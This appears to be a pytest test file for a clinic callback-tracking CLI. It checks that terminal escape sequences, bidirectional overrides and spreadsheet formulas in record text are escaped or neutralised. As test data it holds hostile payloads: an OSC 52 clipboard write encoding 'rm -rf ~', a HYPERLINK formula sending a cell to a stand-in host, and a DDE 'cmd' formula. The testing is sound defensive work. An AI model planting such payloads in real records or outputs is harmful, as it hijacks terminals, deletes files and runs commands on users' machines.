"""Terminal and spreadsheet safety: record text never drives the terminal or a spreadsheet.

Names, reasons and notes may hold escape sequences (clear screen, OSC 0 window title,
OSC 52 clipboard write), BEL, C1 controls or bidirectional overrides. Every text output
shows them as visible escapes (`\\x1b`, `\\u202e`), truncation never cuts an escape in
half, JSON keeps the exact value (escaped by JSON), and CSV cells that a spreadsheet
would run as a formula are neutralised the OWASP way.
"""

from __future__ import annotations

import csv
import io
import json
import re
from typing import Any

import pytest
from conftest import attempt_args
from hypothesis import given, settings, strategies as st

from cbtrack import render, service, triage
from cbtrack.model import EventType

CLEAR = "\x1b[2J"
TITLE = "\x1b]0;owned\x07"  # OSC 0: sets the window title
CLIPBOARD = "\x1b]52;c;cm0gLXJmIH4=\x07"  # OSC 52: writes the clipboard
HOSTILE = f"Ada{CLEAR}{TITLE}{CLIPBOARD}\x07\u202eevil\x9b1m\x7f\u2066end"

# What must never reach a terminal raw (newline and the table's own spaces may).
RAW = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
# An escape cut in half by truncation: a backslash escape left unfinished before the `…`.
HALF_ESCAPE = re.compile(r"\\(x[0-9a-f]?|u[0-9a-f]{0,3})?…")


def safe(text: str) -> None:
    found = RAW.search(text)
    assert found is None, f"raw {found.group()!r} in output: {text!r}"
    assert not HALF_ESCAPE.search(text), text


@pytest.fixture
def hostile(cli: Any) -> tuple[Any, str]:
    # the patient's name is hostile too
    cid = cli.add(
        "--next",
        HOSTILE,
        "--patient",
        HOSTILE,
        reason=HOSTILE,
        category="general",
    )
    cli.ok(*attempt_args(cid, "phone", "no_answer", f"Rang twice {HOSTILE}"))
    cli.ok("note", cid, HOSTILE)
    cli.ok("block", cid, "--on", "other", "--note", HOSTILE)
    return cli, cid


@pytest.mark.parametrize(
    "args",
    [
        ("queue",),
        ("show", "{cid}"),
        ("log", "{cid}"),
        ("find", "5550100123"),
        ("review",),
        ("review", "--roll", "--dry-run"),
        ("script", "{cid}"),
        ("report", "--include-phi"),
        ("report", "--include-phi", "--format", "markdown"),
        ("report", "--include-phi", "--format", "html"),
        ("report", "--include-phi", "--format", "csv"),
    ],
    ids=lambda a: " ".join(a).replace("{cid}", "ID"),
)
def test_every_text_output_shows_hostile_text_escaped(
    hostile: tuple[Any, str], args: tuple[str, ...]
) -> None:
    cli, cid = hostile
    result = cli.ok(*(a.replace("{cid}", cid) for a in args))
    safe(result.stdout)
    safe(result.stderr)
    if args[0] != "script" and args[:2] != ("review", "--roll"):  # these show no record text
        # shown, not dropped: the sequence is there, as visible text
        assert "\\x1b" in result.stdout, result.stdout


def test_show_escapes_every_field_and_keeps_the_record_readable(hostile: tuple[Any, str]) -> None:
    cli, cid = hostile
    out = cli.ok("show", cid).stdout
    safe(out)
    assert "Ada\\x1b[2J\\x1b]0;owned\\x07" in out  # the name
    assert "\\u202eevil\\x9b1m\\x7f\\u2066end" in out
    assert out.count("\\x1b]52;c;") >= 5  # name, reason, next, attempt, note, dependency


def test_a_newline_in_a_one_line_field_cannot_fake_another_field(cli: Any) -> None:
    cid = cli.add(reason="Refill\nOwner:     clinical", category="general")
    out = cli.ok("show", cid).stdout
    assert "Refill\\nOwner: clinical" in out  # shown escaped, on the Why line (spaces joined)
    assert [line for line in out.splitlines() if line.startswith("Owner:")] == [
        "Owner:      Front desk, role front_desk"
    ]


def test_json_keeps_the_exact_text_escaped_by_json(hostile: tuple[Any, str]) -> None:
    cli, cid = hostile
    for args in (("show", cid, "--json"), ("queue", "--json")):
        out = cli.ok(*args).stdout
        safe(out)
        data = json.loads(out)
        record = data if isinstance(data, dict) else data[0]
        assert record["patient"]["name"] == HOSTILE
        assert record["reason"] == HOSTILE
    report = cli.ok("report", "--include-phi", "--json").stdout
    safe(report)
    assert json.loads(report)["patients"]["open_at_end"][0]["name"] == HOSTILE


@pytest.mark.parametrize("at", range(0, 40, 3))
def test_truncation_never_cuts_an_escape_in_half(cli: Any, at: int) -> None:
    """The reason is cut to fit the queue's column; wherever the cut falls, an escape is
    kept whole or left out whole, and no unterminated OSC reaches the terminal."""
    cli.add(reason="x" * at + TITLE + "y" * 40, category="general")
    out = cli.ok("queue").stdout
    safe(out)
    assert all(len(line) <= 100 for line in out.splitlines())


def test_triage_dry_run_text_is_escaped(cli: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    cid = cli.add(category="general")
    plan = service.TriagePlan(
        cid, [triage.Change(EventType.triaged, f"Triage by rule {HOSTILE}", {"owner": "x"})]
    )
    monkeypatch.setattr(service, "plan_triage", lambda *a, **k: [plan])
    out = cli.ok("triage", "--dry-run").stdout
    safe(out)
    assert "\\x1b]0;owned\\x07" in out


def test_errors_that_echo_what_was_typed_show_it_escaped(cli: Any) -> None:
    cid = cli.add(category="general")
    err = cli.refused("queue", "--category", HOSTILE)  # exit 1, our own sentence
    safe(err)
    assert "\\x1b[2J" in err
    err = cli.refused(*attempt_args(cid, HOSTILE, "no_answer", "Rang, no answer"), code=2)
    safe(err)  # typer's usage error quotes the value
    assert "\\x1b[2J" in err
    err = cli.refused(f"--bogus{CLEAR}", "queue", code=2)
    safe(err)


def test_csv_cells_that_start_a_formula_are_neutralised(cli: Any) -> None:
    formulas = {
        '=HYPERLINK("http://x.invalid/?"&A1,"click")': "'=HYPERLINK(",
        "+1+cmd|' /C calc'!A0": "'+1+cmd",
        "-2+3": "'-2+3",
        "@SUM(1+1)": "'@SUM",
    }
    for name in formulas:
        cli.add("--patient", name, reason=name, category="general")
    out = cli.ok("report", "--include-phi", "--format", "csv").stdout
    rows = list(csv.reader(io.StringIO(out)))
    values = [value for row in rows for value in row]  # the tables, one under another
    for name, start in formulas.items():
        assert name not in values  # never as typed
        assert any(v.startswith(start) for v in values), (name, values)
    for value in values:
        if re.fullmatch(r"\+\d{7,15}", value):
            continue  # a phone in E.164: digits alone run nothing
        assert not value.lstrip(" ").startswith(("=", "+", "@", "\t", "\r")), value
        if value.startswith("-"):  # only numbers may start with a minus
            float(value)
    # a phone in E.164 stays E.164 (digits alone cannot run anything)
    assert any(v == "+15550100123" for v in values)
    assert render.spreadsheet_safe("+15550100123") == "+15550100123"
    assert render.spreadsheet_safe("+1555010012x") == "'+1555010012x"


def test_negative_figures_stay_numbers_in_csv() -> None:
    from cbtrack.reportfmt import csv_cell

    assert csv_cell(-3) == "-3"
    assert csv_cell(-1.5) == "-1.5"
    assert csv_cell("-3") == "'-3"  # text that looks like a number is still text
    assert csv_cell(["=a", "b"]) == "'=a; b"
    assert render.spreadsheet_safe("") == ""
    assert render.spreadsheet_safe("\tx") == "'\tx"
    assert render.spreadsheet_safe("  =1+1") == "'  =1+1"
    assert render.spreadsheet_safe("Ada-Lee") == "Ada-Lee"


@settings(max_examples=300, deadline=None)
@given(st.text(), st.integers(min_value=1, max_value=60))
def test_one_line_is_printable_short_and_whole(text: str, width: int) -> None:
    shown = render.one_line(text, width)
    assert len(shown) <= width
    assert RAW.search(shown) is None and "\n" not in shown
    full = render.printable(" ".join(text.split()))
    if shown == full:
        return
    assert shown.endswith("…")
    kept = shown[:-1]
    assert full.startswith(kept)
    # the cut falls between two escapes (or characters), never inside one
    bounds = {0}
    for token in re.finditer(r"\\(?:x[0-9a-f]{2}|u[0-9a-f]{4}|[tnr])|.", full, re.DOTALL):
        bounds.add(token.end())
    assert len(kept) in bounds


def test_a_hostile_file_name_in_the_store_is_shown_escaped(cli: Any) -> None:
    """A file pulled in by a sync may carry any name: every command that names it escapes it."""
    cli.add(category="general")
    (cli.store / "callbacks" / "open" / f"x{TITLE}.yaml").write_text("id: [\n")
    for args, code in ((("queue",), 3), (("validate",), 1), (("doctor",), 1)):
        result = cli(*args)
        assert result.exit_code == code, (args, result.stdout, result.stderr)
        safe(result.stdout)
        safe(result.stderr)
        assert "x\\x1b]0;owned\\x07.yaml" in result.stdout + result.stderr, args
